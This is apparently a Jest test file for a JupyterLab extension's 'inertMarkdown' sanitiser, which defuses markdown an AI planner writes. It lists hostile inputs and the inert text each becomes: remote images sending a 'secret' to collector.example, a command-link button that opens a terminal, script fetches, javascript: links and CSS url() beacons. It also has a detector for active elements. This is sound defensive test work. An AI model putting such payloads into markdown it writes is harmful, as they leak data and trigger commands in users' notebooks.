/**
 * Planner-written markdown is inert (docs/security.md#what-a-planner-writes): a table of hostile
 * inputs and what each becomes, then the same inputs (and many mixed ones) through JupyterLab's own
 * markdown pipeline (marked, as `@jupyterlab/markedparser-extension` sets it up, and the sanitizer of
 * a markdown cell), where nothing rendered may load a URL or carry a command.
 */
import { Sanitizer } from '@jupyterlab/apputils';
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';
import {
  MimeModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { inertMarkdown } from '../inertMarkdown';

const rendermime = new RenderMimeRegistry({
  initialFactories: standardRendererFactories,
  markdownParser: createMarkdownParser(new EditorLanguageRegistry()),
  sanitizer: new Sanitizer()
});

/** The DOM a markdown cell shows for `source` (untrusted: sanitized, as every markdown cell is). */
async function rendered(source: string): Promise<HTMLElement> {
  const renderer = rendermime.createRenderer('text/markdown');
  await renderer.renderModel(
    new MimeModel({ data: { 'text/markdown': source }, trusted: false })
  );
  return renderer.node;
}

/** What in `node` would load something or act by itself, described; empty when nothing would. */
function activeParts(node: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of Array.from(node.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    for (const attribute of Array.from(element.attributes)) {
      const { name, value } = attribute;
      if (name.startsWith('data-commandlinker')) {
        found.push(`${tag}[${name}]`);
      } else if (name === 'style' && /url\s*\(/i.test(value)) {
        found.push(`${tag}[style=${value}]`);
      } else if (
        ['src', 'srcset', 'poster', 'data', 'background'].includes(name) &&
        !/^data:image\/(png|jpeg|gif|webp);base64,/i.test(value)
      ) {
        found.push(`${tag}[${name}=${value}]`);
      } else if (tag !== 'a' && name === 'href') {
        found.push(`${tag}[href=${value}]`);
      }
    }
    if (
      [
        'iframe',
        'object',
        'embed',
        'video',
        'audio',
        'source',
        'link',
        'picture',
        'script',
        'button',
        'form',
        'svg'
      ].includes(tag)
    ) {
      found.push(tag);
    }
  }
  return found;
}

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** [what, planner's markdown, what is inserted]. */
const CASES: [string, string, string][] = [
  [
    'an inline remote image becomes a link with its alt text',
    '![x](https://collector.example/p?d=secret)',
    '[x](https://collector.example/p?d=secret)'
  ],
  [
    'an image without alt text is a link reading its URL',
    'See ![](https://a.example/i.png "title") here',
    'See [https://a.example/i.png](https://a.example/i.png) here'
  ],
  [
    'an image in angle brackets, with spaces and parentheses in its URL',
    '![chart](<https://a.example/a b(1).png>)',
    '[chart](https://a.example/a%20b%281%29.png)'
  ],
  [
    'a reference image becomes a reference link',
    '![logo][l]\n\n[l]: https://a.example/l.png',
    '[logo][l]\n\n[l]: https://a.example/l.png'
  ],
  [
    'collapsed and shortcut reference images too',
    '![l][] and ![l]\n\n[l]: https://a.example/l.png',
    '[l][] and [l]\n\n[l]: https://a.example/l.png'
  ],
  [
    'an undefined reference keeps its text, the ! escaped',
    '![logo][nowhere]',
    '\\![logo][nowhere]'
  ],
  [
    'an image in alt text is a link too',
    '![a ![b](https://a.example/b.png)](https://a.example/a.png)',
    '[a [b](https://a.example/b.png)](https://a.example/a.png)'
  ],
  ['an inline data image stays', `![dot](${PIXEL})`, `![dot](${PIXEL})`],
  [
    'an SVG data image does not',
    '![s](data:image/svg+xml;base64,PHN2Zz4=)',
    '[s](data:image/svg+xml;base64,PHN2Zz4=)'
  ],
  [
    'an HTML image becomes a link with its alt text',
    '<img src="https://a.example/a.png" alt="A chart" width=10>',
    '[A chart](https://a.example/a.png)'
  ],
  [
    'each srcset candidate becomes a link',
    '<img srcset="https://a.example/a.png 1x, https://a.example/b.png 2x" alt=x>',
    '[x](https://a.example/a.png) [x](https://a.example/b.png)'
  ],
  [
    'picture and source',
    '<picture><source srcset="https://a.example/a.webp"><img src="https://a.example/a.png" alt=p></picture>',
    '[https://a.example/a.webp](https://a.example/a.webp)[p](https://a.example/a.png)'
  ],
  [
    'video and its poster',
    '<video src="https://a.example/v.mp4" poster="https://a.example/p.jpg" autoplay></video>',
    '[https://a.example/v.mp4](https://a.example/v.mp4) [https://a.example/p.jpg](https://a.example/p.jpg)'
  ],
  [
    'audio, iframe, object, embed and link',
    '<audio src=\'https://a.example/s.mp3\'></audio><iframe src=https://a.example/f></iframe><object data="https://a.example/o"></object><embed src="https://a.example/e"><link rel=stylesheet href="https://a.example/c.css">',
    '[https://a.example/s.mp3](https://a.example/s.mp3)[https://a.example/f](https://a.example/f)[https://a.example/o](https://a.example/o)[https://a.example/e](https://a.example/e)[https://a.example/c.css](https://a.example/c.css)'
  ],
  [
    'an HTML data image stays an image',
    `<img src="${PIXEL}" alt="dot">`,
    `![dot](${PIXEL})`
  ],
  [
    'entities in an attribute are read as the browser reads them',
    '<img src="https&#58;//a.example/x?a=1&amp;b=2">',
    '[https://a.example/x?a=1\\&b=2](https://a.example/x?a=1&b=2)'
  ],
  [
    'a command link is escaped, so its attribute is text',
    '<button data-commandlinker-command="terminal:create-new">Open</button>',
    '&lt;button data-commandlinker-command="terminal:create-new">Open&lt;/button>'
  ],
  [
    "a style's url() is text",
    '<div style="background:url(https://a.example/bg.png)">x</div>',
    '&lt;div style="background:url(https://a.example/bg.png)">x&lt;/div>'
  ],
  [
    'comments, declarations and processing instructions are escaped',
    '<!-- hidden --> <!DOCTYPE x> <?php ?> <![CDATA[ x ]]>',
    '&lt;!-- hidden --> &lt;!DOCTYPE x> &lt;?php ?> &lt;\\![CDATA[ x ]]>'
  ],
  [
    'a script and a form are escaped',
    '<script>fetch("https://a.example")</script><form action="https://a.example"><input type=image src="https://a.example/i"></form>',
    '&lt;script>fetch("https://a.example")&lt;/script>&lt;form action="https://a.example">[https://a.example/i](https://a.example/i)&lt;/form>'
  ],
  [
    'an http autolink stays; a javascript: one is escaped',
    '<https://ok.example/x> <javascript:alert(1)>',
    '<https://ok.example/x> &lt;javascript:alert(1)>'
  ],
  [
    'a < that starts no tag stays',
    'a < b, p<0.05 and 3 <= 4',
    'a < b, p<0.05 and 3 <= 4'
  ],
  [
    'inline code keeps its text but a tag start or an image inside',
    'Use `df[df.x < 3]`, `<img src=x>` and `![a](b)`.',
    'Use `df[df.x < 3]`, `< img src=x>` and `! [a](b)`.'
  ],
  [
    'fenced code is kept as it is',
    'Code:\n\n```python\nhtml = "<img src=\'https://a.example\'>"\nmd = "![x](https://a.example)"\n```\n\nDone.',
    'Code:\n\n```python\nhtml = "<img src=\'https://a.example\'>"\nmd = "![x](https://a.example)"\n```\n\nDone.'
  ],
  [
    'a fence right after text gets a blank line, and a longer marker than its content',
    'Look:\n~~~\n````\n<img src=x>\n~~~',
    'Look:\n\n~~~\n````\n<img src=x>\n~~~'
  ],
  [
    'a fence in a list item is written at the start of a line',
    '- item\n  ```\n  <b>code</b>\n  ```\n<img src=https://a.example/x>',
    '- item\n\n```\n<b>code</b>\n```\n[https://a.example/x](https://a.example/x)'
  ],
  [
    'a fence marker inside a blockquote is text: what follows is made inert',
    '> ```\n<img src=https://a.example/q>',
    '> ```\n[https://a.example/q](https://a.example/q)'
  ],
  [
    "a fence's info string keeps only a language name (the highlighter writes it into HTML)",
    '```python"><img src=https://a.example/i> x\nprint(1)\n```',
    '```python\nprint(1)\n```'
  ],
  [
    'an unclosed fence runs to the end',
    '```\n<img src=x>',
    '```\n<img src=x>\n```'
  ],
  [
    'a mermaid diagram is shown as its source',
    '```mermaid\ngraph TD\n  A@{ img: "https://a.example/i.png" }\n```',
    '```mermaid-source\ngraph TD\n  A@{ img: "https://a.example/i.png" }\n```'
  ],
  [
    'escaped characters stay escaped',
    '\\![no](https://a.example) \\*b\\* \\`<b>`',
    '\\![no](https://a.example) \\*b\\* \\`&lt;b>`'
  ],
  [
    'an escaped < is written as an entity: a bare URL before it would take in the backslash',
    'https://a.example/x\\<img src="https://a.example/y">',
    'https://a.example/x&lt;img src="https://a.example/y">'
  ],
  [
    'math stays math',
    'The mean is $\\bar{x} = \\frac{1}{n}\\sum x_i$ and $$a^2$$.',
    'The mean is $\\bar{x} = \\frac{1}{n}\\sum x_i$ and $$a^2$$.'
  ],
  [
    "math holding a quote is written without math: in a URL, JupyterLab's math would end the href",
    'https://a.example/x$" style="background:url(https://a.example/bg)$ `$"`',
    'https://a.example/x&#36;&quot; style=&quot;background:url(https://a.example/bg)&#36; `$"`'
  ],
  [
    'a link title with math and a quote',
    '[a](https://a.example "$\\"$") \\\\(x\\\\) \\begin{a}"\\end{a}',
    '[a](https://a.example &quot;&#36;&quot;&#36;&quot;) \\\\&#40;x\\\\) &#92;begin{a}&quot;&#92;end{a}'
  ],
  [
    'a link stays a link',
    '[docs](https://pandas.pydata.org) and https://a.example/x',
    '[docs](https://pandas.pydata.org) and https://a.example/x'
  ],
  [
    'a table keeps its columns',
    '| a | b |\n|---|---|\n| ![i](https://a.example/i) | <br> |',
    '| a | b |\n|---|---|\n| [i](https://a.example/i) | &lt;br> |'
  ],
  [
    'a ! before an image or a media element does not make the link an image',
    '!![a](https://a.example/1) !<img src=https://a.example/2 alt=b> \\!![c](https://a.example/3)',
    '\\![a](https://a.example/1) \\![b](https://a.example/2) \\![c](https://a.example/3)'
  ],
  [
    'Windows line ends become \\n',
    'a\r\n![x](https://a.example/x)\r\n',
    'a\n[x](https://a.example/x)\n'
  ]
];

describe('inertMarkdown', () => {
  it.each(CASES)('%s', (_what, source, expected) => {
    expect(inertMarkdown(source)).toBe(expected);
  });

  it.each(CASES)('is idempotent: %s', (_what, source) => {
    const once = inertMarkdown(source);
    expect(inertMarkdown(once)).toBe(once);
  });

  it('keeps text without markup as it is', () => {
    const text =
      '## Findings\n\n- 12 % of *price* is missing\n- mean 3.5 (sd 1.2)\n\n> Note: p < 0.05\n\n1. load\n2. clean';
    expect(inertMarkdown(text)).toBe(text);
  });

  it('takes linear time on hostile input', () => {
    // 100 to 520 thousand characters each; a quadratic pass would take minutes.
    const hostile = [
      '![a]('.repeat(50000),
      '<img a="'.repeat(50000),
      '`' + ' ``'.repeat(50000),
      '[['.repeat(50000),
      '<https:'.repeat(50000),
      '![a](x "'.repeat(50000),
      '$"'.repeat(50000),
      'x <img src=y> `a` ![b](c) '.repeat(20000)
    ];
    for (const source of hostile) {
      const started = Date.now();
      inertMarkdown(source);
      expect(Date.now() - started).toBeLessThan(5000);
    }
  });
});

describe("inert markdown through JupyterLab's markdown pipeline", () => {
  it('the sanitizer alone keeps a remote image and a command link (the probe)', async () => {
    const node = await rendered(
      '![x](https://collector.example/p?d=1)\n\n<button data-commandlinker-command="terminal:create-new">Open</button>'
    );
    expect(node.querySelector('img')?.getAttribute('src')).toBe(
      'https://collector.example/p?d=1'
    );
    expect(
      node.querySelector('button')?.getAttribute('data-commandlinker-command')
    ).toBe('terminal:create-new');
  });

  it.each(CASES)(
    'renders nothing that loads or acts: %s',
    async (_, source) => {
      expect(activeParts(await rendered(inertMarkdown(source)))).toEqual([]);
    }
  );

  it('shows a link where the image was, and the command link as text', async () => {
    const node = await rendered(
      inertMarkdown(
        '![x](https://collector.example/p?d=1)\n\n<button data-commandlinker-command="terminal:create-new">Open</button>'
      )
    );
    const link = node.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://collector.example/p?d=1');
    expect(link?.textContent).toBe('x');
    expect(node.textContent).toContain(
      '<button data-commandlinker-command="terminal:create-new">Open</button>'
    );
  });

  it('keeps a data image and fenced code as they are', async () => {
    const node = await rendered(
      inertMarkdown(`![dot](${PIXEL})\n\n\`\`\`\n<img src=x>\n\`\`\``)
    );
    expect(node.querySelector('img')?.getAttribute('src')).toBe(PIXEL);
    expect(node.querySelector('pre')?.textContent).toBe('<img src=x>\n');
  });

  it('renders nothing active from any mix of hostile pieces', async () => {
    const pieces = [
      '![a](https://h.example/1)',
      '<img src=https://h.example/2>',
      '<img\nsrc="https://h.example/3">',
      '<button data-commandlinker-command="x">b</button>',
      '<span style="background:url(https://h.example/4)">s</span>',
      '<video poster=https://h.example/5>',
      '![r][d]',
      '[d]: https://h.example/6',
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '    ',
      '- ',
      '> ',
      '| ',
      '$',
      '$$',
      '\\\\(',
      '\\begin{x}',
      '"',
      '" style="background:url(https://h.example/8)"',
      '`$"`',
      '*',
      '_',
      '\\',
      '\\<img src=https://h.example/7>',
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '"',
      'https://h.example/x',
      'www.h.example',
      'text ',
      '<div>',
      '</div>',
      '<pre>',
      '<!--',
      '-->'
    ];
    let seed = 41;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    for (let round = 0; round < 500; round++) {
      const source = Array.from(
        { length: 4 + Math.floor(random() * 24) },
        () => pieces[Math.floor(random() * pieces.length)]
      ).join('');
      const inert = inertMarkdown(source);
      expect({ source, active: activeParts(await rendered(inert)) }).toEqual({
        source,
        active: []
      });
      expect(inertMarkdown(inert)).toBe(inert);
    }
  }, 120000);
});
